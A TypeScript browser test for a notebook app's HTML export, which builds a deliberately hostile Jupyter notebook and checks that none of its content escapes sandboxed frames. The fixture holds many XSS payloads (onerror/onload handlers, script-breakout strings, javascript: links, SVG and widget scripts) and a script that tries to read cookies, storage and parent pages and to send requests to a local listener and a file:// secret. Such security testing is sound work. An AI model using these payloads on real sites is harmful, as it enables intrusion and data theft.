/** A page that somebody downloaded of a notebook that a stranger wrote, opened from the disk: nothing in it reaches the page, the web or the disk. */
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { pathToFileURL } from 'node:url';
import { expect, onTestFinished } from 'vitest';
import { htmlOf } from '~/server/areas/notebooks/download/html/page';
import { readNotebook } from '~/server/areas/notebooks/nbformat';
import { eventually, journey, VIEWPORTS } from '../harness';

const SECRET = 'what only the person may read';

/** Says what each way out brought, and that it tried all of them. */
const tries = (web: string, file: string) => `<p class="told"></p><script>
const told = document.querySelector('.told');
const say = (what, got) => { told.textContent += what + ' ' + got + ';'; };
for (const [what, look] of [['parent', () => parent.document.title], ['top', () => top.location.href], ['storage', () => localStorage.length],
  ['cookie', () => document.cookie], ['sibling', () => parent.frames[0].document.body.innerText], ['opener', () => open('${web}/opened') && 'open']]) {
  try { say(what, 'GOT ' + look()); } catch (error) { say(what, error.name); }
}
try { top.location = '${web}/top'; } catch (error) { say('leave', error.name); }
setInterval(() => parent.postMessage(1e9, '*'), 50); parent.postMessage(NaN, '*'); parent.postMessage({ length: 1 }, '*');
for (const [tag, name] of [['img', 'src'], ['script', 'src'], ['iframe', 'src'], ['link', 'href'], ['object', 'data'], ['video', 'src']]) {
  for (const address of ['${web}/' + tag, '${file}']) {
    const made = document.createElement(tag); made.rel = 'stylesheet'; made[name] = address; document.body.append(made);
  }
}
new Image().src = '${web}/pixel'; navigator.sendBeacon('${web}/beacon', 'x'); try { new WebSocket('${web}'.replace('http', 'ws')); } catch {}
try { new Worker('${web}/worker.js'); } catch {} try { new EventSource('${web}/events'); } catch {}
const form = document.body.appendChild(document.createElement('form')); form.action = '${web}/form'; try { form.submit(); } catch {}
Promise.allSettled([fetch('${web}/fetch'), fetch('${file}'), import('${web}/module.js')]).then((all) => {
  say('asked', all.map(({ status }) => status).join()); told.dataset.done = 'yes';
});
</script>`;

/** Markup that runs in the page itself where a text is not escaped. */
const MARK =
  '</title></pre></style></script>"\'><img src=x onerror="parent.PWNED=1;PWNED=1"><script>PWNED=1</script>';

const hostile = (web: string, file: string) => {
  const cell = (rest: object) => ({ metadata: {}, ...rest });
  const code = (id: string, ...data: object[]) =>
    cell({
      id,
      cell_type: 'code',
      source: MARK,
      execution_count: 1,
      outputs: data.map((one) =>
        'output_type' in one
          ? one
          : {
              output_type: 'display_data',
              data: one,
              metadata: { width: `1" onload="PWNED=1`, [MARK]: MARK },
            },
      ),
    });
  const markdown = (id: string, source: string, attachments = {}) =>
    cell({ id, cell_type: 'markdown', source, attachments });
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="PWNED=1;parent.PWNED=1"><script>PWNED=1;parent.PWNED=1</script><image href="${web}/svg"/><foreignObject><iframe src="${file}"/></foreignObject></svg>`;
  return {
    nbformat: 4,
    nbformat_minor: 5,
    metadata: {
      title: MARK,
      widgets: {
        'application/vnd.jupyter.widget-state+json': {
          version_major: 2,
          version_minor: 0,
          state: {
            w: {
              model_name: 'AnyModel',
              model_module: 'anywidget',
              state: { _esm: `fetch('${web}/widget');parent.PWNED=1` },
            },
          },
        },
      },
    },
    cells: [
      code('calm', { 'text/html': '<b>calm</b>' }),
      code('ways', { 'text/html': tries(web, file) }),
      code(
        'leaves',
        { 'text/html': `<script>location = '${web}/left'</script>` },
        {
          'text/html': `<meta http-equiv="refresh" content="0;url=${web}/refreshed"><base href="${web}/base/"><img src="based.png">`,
        },
      ),
      code('styles', {
        'text/html': `<style>@import '${web}/import.css'; body { background: url(${web}/background) } @font-face { font-family: f; src: url(${web}/font) } p { font-family: f } :root { position: fixed; inset: 0 }</style><p style="position:fixed;inset:0;background:url(${web}/inline)">over all</p>`,
      }),
      code('script', {
        'application/javascript': `parent.PWNED=1;</script><script>parent.PWNED=1;fetch('${web}/javascript')`,
      }),
      code(
        'drawn',
        { 'image/svg+xml': svg },
        { 'image/png': `x" onerror="PWNED=1` },
        { 'text/plain': MARK },
        { 'application/json': { [MARK]: MARK } },
        { [MARK]: MARK },
      ),
      code(
        'printed',
        { output_type: 'stream', name: 'stdout', text: `\u001b[31;${MARK}m${MARK}` },
        {
          output_type: 'error',
          ename: MARK,
          evalue: MARK,
          traceback: [MARK, `\u001b]8;;javascript:PWNED=1\u0007go\u001b]8;;\u0007`],
        },
      ),
      code('figure', {
        'application/vnd.plotly.v1+json': {
          data: [
            { type: 'scatter', x: [1], y: [2], name: `</script><script>parent.PWNED=1</script>` },
          ],
          layout: {
            title: { text: `<a href="javascript:parent.PWNED=1">t</a>` },
            images: [
              { source: `${web}/plot.png`, xref: 'paper', yref: 'paper', sizex: 1, sizey: 1 },
            ],
          },
        },
      }),
      code('widget', {
        'application/vnd.jupyter.widget-view+json': {
          version_major: 2,
          version_minor: 0,
          model_id: 'w',
        },
        'text/plain': MARK,
      }),
      markdown(
        'links',
        `[go](javascript:PWNED=1) [data](data:text/html,<script>PWNED=1</script>) [disk](${file}) ![p](${web}/picture.png) ![disk](${file}) ![a](attachment:a.png) <javascript:PWNED=1>`,
        { 'a.png': { 'image/png': `x"onerror="PWNED=1` } },
      ),
      markdown(
        'tags',
        `# ${MARK}\n\n<iframe src="${file}"></iframe><a href="javascript:parent.PWNED=1" id="pressed">press</a><form action="${web}/posted"><button>send</button></form>${MARK}`,
      ),
      markdown(
        'formula',
        `$\\href{javascript:PWNED=1}{x}$ $\\includegraphics{${web}/formula}$ $\\htmlData{x="y"}{\\class{"onload=PWNED=1}{x}}$ $\\def\\a{\\a\\a}\\a$ $\\rule{1e9em}{1e9em}$`,
      ),
      cell({ id: 'raw', cell_type: 'raw', source: MARK }),
    ],
  };
};

journey(
  'NBS-06 a downloaded page of a hostile notebook: nothing of it reaches the page, another output, the web or the disk',
  async ({ browser }) => {
    const reached: string[] = [];
    const listener = createServer((request, response) => {
      reached.push(request.url ?? '');
      response.setHeader('access-control-allow-origin', '*').end('reached');
    });
    await new Promise<void>((resolve) => {
      listener.listen(0, '127.0.0.1', resolve);
    });
    const folder = mkdtempSync(path.join(os.tmpdir(), 'atelier-export-'));
    const context = await browser.newContext({ viewport: VIEWPORTS.desk });
    onTestFinished(async () => {
      await context.close();
      listener.closeAllConnections();
      listener.close();
      rmSync(folder, { recursive: true });
    });
    const secret = path.join(folder, 'secret.html');
    writeFileSync(secret, SECRET);
    const read = readNotebook(
      JSON.stringify(
        hostile(
          `http://127.0.0.1:${(listener.address() as AddressInfo).port}`,
          pathToFileURL(secret).href,
        ),
      ),
    );
    if (!read.ok) throw new Error(read.reason);
    const pieces: string[] = [];
    for await (const piece of htmlOf(read.notebook, {
      title: MARK,
      pictures: () => Promise.resolve(null),
    }))
      pieces.push(piece);
    const saved = path.join(folder, 'Hostile.html');
    writeFileSync(saved, pieces.join(''));

    const page = await context.newPage();
    const others: string[] = [];
    context.on('page', (other) => others.push(other.url()));
    await page.goto(pathToFileURL(saved).href);
    const told = page
      .frameLocator('iframe[title="Output of cell 2"]')
      .locator('.told[data-done="yes"]');
    await eventually(() => told.innerText()).toBe(
      ['parent', 'top', 'storage', 'cookie', 'sibling']
        .map((what) => `${what} SecurityError;`)
        .join('') + 'opener GOT null;leave SecurityError;asked rejected,rejected,rejected;',
    );
    await page
      .frameLocator('iframe[title="Output of cell 8"]')
      .locator('.main-svg')
      .first()
      .waitFor();
    await page.frameLocator('iframe[title="Cell 11"]').locator('#pressed').click();
    await page
      .frameLocator('iframe[title="Cell 11"]')
      .getByRole('button', { name: 'send' })
      .click();
    await page.evaluate(() => {
      for (const link of document.querySelectorAll('a'))
        if (!/^https?:/.test(link.href)) link.click();
    });

    expect(reached).toEqual([]);
    expect(others).toEqual([]);
    expect(page.url()).toBe(pathToFileURL(saved).href);
    // What a frame tried to go to is no page: nothing can be asked of it.
    const shown = page
      .frames()
      .filter((frame) => frame === page.mainFrame() || frame.url() === 'about:srcdoc');
    expect(
      page
        .frames()
        .map((frame) => frame.url())
        .filter((url) => !/^(about:srcdoc|chrome-error:.*|)$/.test(url)),
    ).toEqual([page.url()]);
    for (const frame of shown)
      expect(await frame.evaluate(() => document.body?.innerText ?? '')).not.toContain(SECRET);
    // An output's scripts run in its own frame; the page around them never hears of it.
    expect(
      await page.evaluate(() => (window as unknown as { PWNED?: number }).PWNED),
    ).toBeUndefined();
    // The page itself holds no script, handler or address but its own.
    expect(
      await page.evaluate(() =>
        [...document.querySelectorAll('*')]
          .flatMap((one) => [...one.attributes])
          .filter(({ name, value }) => /^on/.test(name) || /^\s*javascript:/i.test(value))
          .map(({ name, value }) => `${name}=${value}`),
      ),
    ).toEqual([]);
    expect(await page.locator('script:not([type])').count()).toBe(1);
    expect(await page.title()).toBe(MARK);
    // No output is higher than the bound, and none lies over another.
    const high = await page
      .locator('iframe')
      .evaluateAll((all) => all.map((one) => one.getBoundingClientRect().height));
    expect(Math.max(...high)).toBeLessThanOrEqual(4_010);
    expect(
      await page
        .locator('iframe')
        .evaluateAll((all) => all.every((one) => getComputedStyle(one).position === 'static')),
    ).toBe(true);
  },
);
